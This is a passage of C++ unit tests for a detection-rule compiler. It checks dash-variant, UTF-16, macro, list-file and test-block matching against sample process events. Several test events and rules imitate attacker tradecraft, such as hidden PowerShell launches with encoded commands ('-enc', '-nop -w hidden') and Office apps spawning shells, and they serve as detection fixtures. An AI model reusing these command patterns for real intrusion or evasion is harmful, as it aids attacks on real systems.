                {R"({"cmd":"xaHR0cDovL2V4YW1wbGU="})", "in_list"},
                {R"({})", ""},
            });
}

TEST_CASE("matching: utf16 constants against UTF-16 bytes in events") {
  Matcher m(pack_source(R"(
  data: string = "data")",
                        {
                            {"le", R"(data contains cs utf16le("who"))"},
                            {"wide", R"(data contains cs wide("who"))"},
                            {"be", R"(data contains cs utf16be("who"))"},
                            {"bom", R"(data startswith cs utf16("who"))"},
                        }));
  expect(m, {
                {R"({"data":"w\u0000h\u0000o\u0000a\u0000m\u0000i\u0000"})", "le wide"},
                {R"({"data":"\u0000w\u0000h\u0000o"})", "be"},
                {R"({"data":"who"})", ""},
            });
  // A byte order mark (FF FE) is not UTF-8, so it cannot come through JSON.
  Holds holds = m.holds_text("data", std::string("\xff\xfew\0h\0o\0", 8));
  CHECK(holds.jit == "bom le wide");
  CHECK(holds.reference == "bom le wide");
}

TEST_CASE("matching: windash matches dashes, slashes and Unicode dashes") {
  Matcher m(pack_source(R"(
  cmd: string = "cmd")",
                        {
                            {"enc", R"(cmd contains windash(" -enc "))"},
                        }));
  expect(m, {
                {R"({"cmd":"powershell.exe -enc SQBFAFgA"})", "enc"},
                {R"({"cmd":"powershell.exe /enc SQBFAFgA"})", "enc"},
                {R"({"cmd":"powershell.exe –enc SQBFAFgA"})", "enc"},       // en dash
                {R"({"cmd":"powershell.exe \u2014enc SQBFAFgA"})", "enc"},  // em dash
                {R"({"cmd":"powershell.exe \u2015enc SQBFAFgA"})", "enc"},  // horizontal bar
                {R"({"cmd":"powershell.exe -EnC SQBFAFgA"})", "enc"},
                {R"({"cmd":"powershell.exe +enc SQBFAFgA"})", ""},
                {R"({"cmd":"powershell.exe \u2212enc SQBFAFgA"})", ""},  // minus sign
                {R"({"cmd":"powershell.exe -encodedcommand SQBFAFgA"})", ""},
                {R"({"cmd":"powershell.exe -nop -w hidden"})", ""},
            });
}

// As Sigma's `|windash|contains|all`: some spelling of each value, not every
// spelling of all of them. The spellings of one value form a group (§5).
TEST_CASE("matching: all over windash lists wants a spelling of each value") {
  Matcher m(pack_source(R"(
  cmd: string = "cmd")",
                        {
                            {"both", R"(cmd contains all [windash("-nop"), windash("-w hidden")])"},
                            {"both_of_list", R"(cmd contains all windash(["-nop", "-w hidden"]))"},
                            {"named", "cmd contains all flags"},
                        },
                        R"(list flags = [windash("-nop"), "hidden"])"));
  expect(m, {
                {R"({"cmd":"powershell.exe -nop -w hidden"})", "both both_of_list named"},
                {R"({"cmd":"powershell.exe /nop –w hidden"})", "both both_of_list named"},
                {R"({"cmd":"powershell.exe \u2015NOP /W HIDDEN"})", "both both_of_list named"},
                {R"({"cmd":"powershell.exe -nop"})", ""},
                {R"({"cmd":"powershell.exe -w hidden"})", ""},
                {R"({"cmd":"powershell.exe -nop -window hidden"})", "named"},
            });
}

TEST_CASE("matching: macros with field functions, lists and other macros") {
  Matcher m(R"(
schema E {
  image: string = "image"
  parent_image: string = "parent_image"
  time: timestamp = "time"
}
list office = ["winword.exe", "excel.exe"]
macro office_app(f: string) = basename(f) in office
macro shell(f: string) = basename(f) in ["cmd.exe", "powershell.exe"]
macro office_shell(p: string, c: string) = office_app(p) and shell(c)
macro after_hours(t: timestamp) = hour(t) >= 20 or hour(t) < 6
detection office_spawns_shell { id "1" title "t" severity low on E
  where office_shell(parent_image, image) }
detection office_image { id "2" title "t" severity low on E where office_app(image) }
detection other_shell { id "3" title "t" severity low on E
  where not office_app(parent_image) and shell(image) }
detection late_shell { id "4" title "t" severity low on E
  where shell(image) and after_hours(time) }
)");
  expect(m, {
                {R"({"parent_image":"C:\\Office\\WINWORD.EXE","image":"C:\\Windows\\cmd.exe"})",
                 "office_spawns_shell"},
                {R"({"parent_image":"C:\\Windows\\explorer.exe","image":"powershell.exe"})",
                 "other_shell"},
                {R"({"image":"C:\\x\\Excel.exe"})", "office_image"},
                // Without a parent, office_app(parent_image) is false.
                {R"({"image":"cmd.exe"})", "other_shell"},
                {R"({"image":"cmd.exe","time":"2024-05-01T21:00:00Z"})", "other_shell late_shell"},
                {R"({"image":"cmd.exe","time":"2024-05-01T05:59:59Z"})", "other_shell late_shell"},
                {R"({"image":"cmd.exe","time":"2024-05-01T06:00:00Z"})", "other_shell"},
                // 19:30 UTC.
                {R"({"image":"cmd.exe","time":"2024-05-01T21:30:00+02:00"})", "other_shell"},
                {R"({"image":"cmd.exe","time":"bad"})", "other_shell"},
                {R"({"parent_image":"excel.exe","image":"excel.exe"})", "office_image"},
                {R"({})", ""},
            });
}

// Arguments may be field functions, and a glob in a macro body reads
// backslashes as written however often the body is expanded.
TEST_CASE("matching: macro arguments that are field functions, globs in macro bodies") {
  Matcher m(R"(
schema E {
  image: string = "image"
}
macro temp_exe(f: string) = f like '*\AppData\Local\T?mp\*.exe'
macro is_cmd(f: string) = f == cs 'c:\windows\cmd.exe'
macro temp_or_cmd(f: string) = temp_exe(f) or is_cmd(lower(f))
detection temp_child { id "1" title "t" severity low on E where temp_exe(image) }
detection lowered_cmd { id "2" title "t" severity low on E where is_cmd(lower(image)) }
detection raw_cmd { id "3" title "t" severity low on E where is_cmd(image) }
detection either { id "4" title "t" severity low on E where temp_or_cmd(image) }
)");
  expect(m, {
                {R"({"image":"C:\\Users\\x\\AppData\\Local\\Temp\\a.exe"})", "temp_child either"},
                {R"({"image":"C:\\AppData\\Local\\Tamp\\b\\c.EXE"})", "temp_child either"},
                {R"({"image":"C:\\Users\\x\\AppData\\Local\\Temp\\a.txt"})", ""},
                {R"({"image":"C:\\Users\\x\\AppData\\Local\\Temp.exe"})", ""},
                {R"({"image":"C:\\Windows\\CMD.exe"})", "lowered_cmd either"},
                {R"({"image":"c:\\windows\\cmd.exe"})", "lowered_cmd raw_cmd either"},
                {R"({"image":"C:\\Windows\\cmd.exe.bak"})", ""},
                {R"({})", ""},
            });
}

TEST_CASE("matching: an opening bracket in a glob that starts no escape is E0008") {
  auto compilation = compile_source(pack_source(R"(
  cmd: string = "cmd")",
                                                {
                                                    {"open", R"(cmd like 'a[b*')"},
                                                    {"class", R"(cmd like all ['x*', '[a]'])"},
                                                    {"fine", R"(cmd like '[[]a]*[?]')"},
                                                }),
                                    "rule.socc", false);
  std::string text = rendered_diagnostics(*compilation);
  CAPTURE(text);
  CHECK(diagnostic_codes(*compilation) == std::vector<std::string>{"E0008", "E0008"});
  CHECK(text.find("rule.socc:6:") != std::string::npos);
  CHECK(text.find("rule.socc:7:") != std::string::npos);
}

TEST_CASE("matching: named lists splice lists and constant functions") {
  Matcher m(pack_source(R"(
  image: string = "image"
  src: ip = "src")",
                        {
                            {"tool", "basename(image) in tools"},
                            {"tool_cs", "basename(image) in cs tools"},
                            {"not_tool", "basename(image) not in tools"},
                            {"internal", "src in internal"},
                        },
                        R"(list shells = ["cmd.exe", "PowerShell.exe"]
list tools = [shells, "rundll32.exe", base64("x")]
list nets: cidr = [10.0.0.0/8]
list internal = [nets, 192.168.0.0/16, ip("::1")])"));
  expect(m, {
                {R"({"image":"C:\\Windows\\CMD.EXE"})", "tool"},
                {R"({"image":"PowerShell.exe"})", "tool tool_cs"},
                {R"({"image":"rundll32.exe"})", "tool tool_cs"},
                {R"({"image":"eA=="})", "tool tool_cs"},
                {R"({"image":"notepad.exe"})", "not_tool"},
                {R"({"src":"10.9.8.7"})", "internal"},
                {R"({"src":"192.168.255.1"})", "internal"},
                {R"({"src":"::1"})", "internal"},
                {R"({"src":"::2"})", ""},
                {R"({})", ""},
            });
}

TEST_CASE("matching: lists read from files next to the rules") {
  std::string dir = write_temp_tree({
      {"rules/pack.socc", R"(
schema E {
  user: string = "user"
  src: ip = "src"
}
list admins: string = file("lists/admins.txt")
list nets: cidr = file("nets.txt")
list ids: int = file("lists/ids.txt")
schema F { id: int = "id" }
detection admin { id "1" title "t" severity low on E where user in admins }
detection internal { id "2" title "t" severity low on E where src in nets }
detection known { id "3" title "t" severity low on F where id in ids }
)"},
      // Comments and blank lines are skipped; spaces, tabs and a CR around a
      // value are not part of it.
      {"rules/lists/admins.txt",
       "# domain admins\nalice\n  Bob  \n\n\t\ncarol\r\n#dave\n  # eve\n"},
      {"rules/nets.txt", "10.0.0.0/8\n192.168.1.7\n::1\nfe80::/10"},
      {"rules/lists/ids.txt", "4624\n0x10\n-1\n"},
  });
  driver::CompileOptions options;
  options.stdlib_dir = source_dir() + "/stdlib";
  auto compilation = driver::compile_rules({dir + "/rules/pack.socc"}, options);
  REQUIRE_MESSAGE(compilation->ok(), rendered_diagnostics(*compilation));
  const ir::Pack& pack = compilation->pack;
  runtime::Decoder decoder(pack.slots);
  std::vector<socc_slot> slots(pack.slots.size());
  const Cases cases = {
      {R"({"user":"alice"})", "admin"},
      {R"({"user":"BOB"})", "admin"},
      {R"({"user":"carol"})", "admin"},
      {R"({"user":"carol\r"})", ""},
      {R"({"user":"dave"})", ""},
      {R"({"user":"#dave"})", ""},
      {R"({"user":"# domain admins"})", ""},
      {R"({"user":""})", ""},
      {R"({"src":"10.1.1.1"})", "internal"},
      {R"({"src":"192.168.1.7"})", "internal"},
      {R"({"src":"192.168.1.8"})", ""},
      {R"({"src":"::1"})", "internal"},
      {R"({"src":"fe80::99"})", "internal"},
      {R"({"id":16})", "known"},
      {R"({"id":"4624"})", "known"},
      {R"({"id":-1})", "known"},
      {R"({"id":4625})", ""},
  };
  for (const auto& [line, expected] : cases) {
    CAPTURE(line);
    std::string error;
    REQUIRE(decoder.decode(line, slots.data(), &error));
    std::vector<std::string> jit;
    std::vector<std::string> reference;
    for (size_t r = 0; r < pack.rules.size(); ++r) {
      if (compilation->compiled->rule(r)(slots.data()) != 0) jit.push_back(pack.rules[r].name);
      if (ir::evaluate(pack, pack.rules[r].condition, slots.data())) {
        reference.push_back(pack.rules[r].name);
      }
    }
    CHECK(sorted_names(jit) == normalized(expected));
    CHECK(sorted_names(reference) == normalized(expected));
  }
}

TEST_CASE("matching: a bad line of a list file is reported at its own file, line and column") {
  std::string dir = write_temp_tree({
      {"rules/pack.socc", R"(schema E { src: ip = "src" user: string = "user" n: int = "n" }
list nets: ip = file("lists/nets.txt")
list ids: int = file("ids.txt")
list gone: string = file("gone.txt")
detection internal { id "1" title "t" severity low on E where src in nets }
detection numbered { id "2" title "t" severity low on E where n in ids }
detection named { id "3" title "t" severity low on E where user in gone }
)"},
      {"rules/lists/nets.txt", "# networks\n10.0.0.0/8\n  192.168.1.300\n::1\n"},
      {"rules/ids.txt", "1\n\n 12x\n"},
  });
  driver::CompileOptions options;
  options.stdlib_dir = source_dir() + "/stdlib";
  auto compilation = driver::compile_rules({dir + "/rules/pack.socc"}, options);
  CHECK_FALSE(compilation->ok());
  std::string text = rendered_diagnostics(*compilation);
  CAPTURE(text);
  CHECK(text.find("rules/lists/nets.txt:3:3: error[E0008]") != std::string::npos);
  CHECK(text.find("rules/ids.txt:3:2: error[E0008]") != std::string::npos);
  CHECK(text.find("192.168.1.300") != std::string::npos);
  // A file that cannot be read is reported at the `file("...")` string.
  CHECK(text.find("rules/pack.socc:4:26: error[E0001]") != std::string::npos);
  std::vector<std::string> codes = diagnostic_codes(*compilation);
  CHECK(std::count(codes.begin(), codes.end(), "E0008") == 2);
  CHECK(std::count(codes.begin(), codes.end(), "E0001") == 1);
}

TEST_CASE("matching: test blocks take ip and timestamp strings") {
  const std::string detection = R"(
schema Conn {
  time: timestamp = "time"
  src: ip = "src"
}
detection night_conn { id "1" title "t" severity low on Conn
  where src in 10.0.0.0/8 and hour(time) >= 20 }
)";
  auto compilation = compile_source(detection + R"(
test night_conn {
  fires { src: "10.1.2.3", time: "2024-05-01T22:00:00+02:00" }
  fires { src: "::ffff:10.9.9.9", time: 2024-05-01T23:59:59Z }
  fires { src: ip("10.0.0.1"), time: "2024-05-01 21:00:00" }
  fires { src: 10.255.0.1, time: "2024-05-01T20:00:00.000001Z" }
  quiet { src: "10.1.2.3", time: "2024-05-01T21:59:59+02:00" }
  quiet { src: "192.168.0.1", time: "2024-05-01T22:00:00Z" }
  quiet { src: "::1", time: "2024-05-01T22:00:00Z" }
  quiet { src: "10.1.2.3" }
  quiet { time: "2024-05-01T22:00:00Z" }
}
)");
  REQUIRE_MESSAGE(compilation->ok(), rendered_diagnostics(*compilation));
  std::ostringstream out;
  CHECK(driver::test_command(*compilation, out) == 0);
  CHECK(out.str() == "9 passed, 0 failed\n");

  // The cases are not vacuous: wrong expectations fail.
  auto wrong = compile_source(detection + R"(
test night_conn {
  quiet { src: "10.1.2.3", time: "2024-05-01T22:00:00+02:00" }
  fires { src: "10.1.2.3", time: "2024-05-01T21:59:59+02:00" }
}
)");
  REQUIRE_MESSAGE(wrong->ok(), rendered_diagnostics(*wrong));
  std::ostringstream wrong_out;
  CHECK(driver::test_command(*wrong, wrong_out) == 1);
  CHECK(wrong_out.str().find("0 passed, 2 failed") != std::string::npos);
}

TEST_CASE("matching: an invalid time or address string in a test block is E0008") {
  auto compilation = compile_source(R"(
schema Conn {
  time: timestamp = "time"
  src: ip = "src"
}
detection conn { id "1" title "t" severity low on Conn where src == 10.1.2.3 }
test conn {
  fires { src: "10.1.2.3", time: "2024-13-01T00:00:00Z" }
  fires { src: "10.1.2", time: "2024-05-01T00:00:00Z" }
  fires { src: "10.1.2.3", time: "2019-02-29T00:00:00Z" }
  quiet { src: "10.0.0.0/8" }
}
)",
                                    "rule.socc", false);
  std::string text = rendered_diagnostics(*compilation);
  CAPTURE(text);
  CHECK(diagnostic_codes(*compilation) ==
        std::vector<std::string>{"E0008", "E0008", "E0008", "E0202"});
  CHECK(text.find("rule.socc:8:34: error[E0008]") != std::string::npos);
  CHECK(text.find("rule.socc:9:16: error[E0008]") != std::string::npos);
  CHECK(text.find("rule.socc:10:34: error[E0008]") != std::string::npos);
  CHECK(text.find("rule.socc:11:16: error[E0202]") != std::string::npos);
}

// Ints in list files are decimal or 0x hexadecimal, as in source and in
// event strings such as "010"; a leading zero does not make them octal.
TEST_CASE("matching: ints in a list file are decimal, not octal") {
  std::string dir = write_temp_tree({
      {"pack.socc", R"(schema F { id: int = "id" }
list ids: int = file("ids.txt")
detection known { id "1" title "t" severity low on F where id in ids }
)"},
      {"ids.txt", "010\n0644\n"},
  });
  driver::CompileOptions options;
  options.stdlib_dir = source_dir() + "/stdlib";
  auto compilation = driver::compile_rules({dir + "/pack.socc"}, options);
  REQUIRE_MESSAGE(compilation->ok(), rendered_diagnostics(*compilation));
  const ir::Pack& pack = compilation->pack;
  runtime::Decoder decoder(pack.slots);
  std::vector<socc_slot> slots(pack.slots.size());
  const Cases cases = {
      {R"({"id":10})", "known"}, {R"({"id":"010"})", "known"}, {R"({"id":644})", "known"},
      {R"({"id":8})", ""},       {R"({"id":420})", ""},
  };
  for (const auto& [line, expected] : cases) {
    CAPTURE(line);
    std::string error;
    REQUIRE(decoder.decode(line, slots.data(), &error));
    bool jit = compilation->compiled->rule(0)(slots.data()) != 0;
    bool reference = ir::evaluate(pack, pack.rules[0].condition, slots.data());
    CHECK(jit == !expected.empty());
    CHECK(reference == !expected.empty());
  }
}

// A test block's "\xHH" escapes make values no JSON event can carry; they
// go through the same compiled code as events do.
TEST_CASE("matching: test blocks with bytes that are not UTF-8") {
  auto compilation = compile_source(R"(
schema E { cmd: string = "cmd" }
detection dot { id "1" title "t" severity low on E where cmd matches '^a.b$' }
detection any_byte { id "2" title "t" severity low on E where cmd matches '^a\Cb$' }
detection glob { id "3" title "t" severity low on E where cmd like "a?b" }
test dot {
  quiet { cmd: "a\xffb" }
  fires { cmd: "a\xc3\xa9b" }
}
test any_byte {
  fires { cmd: "a\xffb" }
  quiet { cmd: "a\xc3\xa9b" }
}
test glob {
  fires { cmd: "a\xffb" }
  fires { cmd: "A\xc3\xa9B" }
  quiet { cmd: "a\xc3b\xa9" }
}
)");
  REQUIRE_MESSAGE(compilation->ok(), rendered_diagnostics(*compilation));
  std::ostringstream out;
  CHECK(driver::test_command(*compilation, out) == 0);
  CHECK(out.str() == "7 passed, 0 failed\n");
}
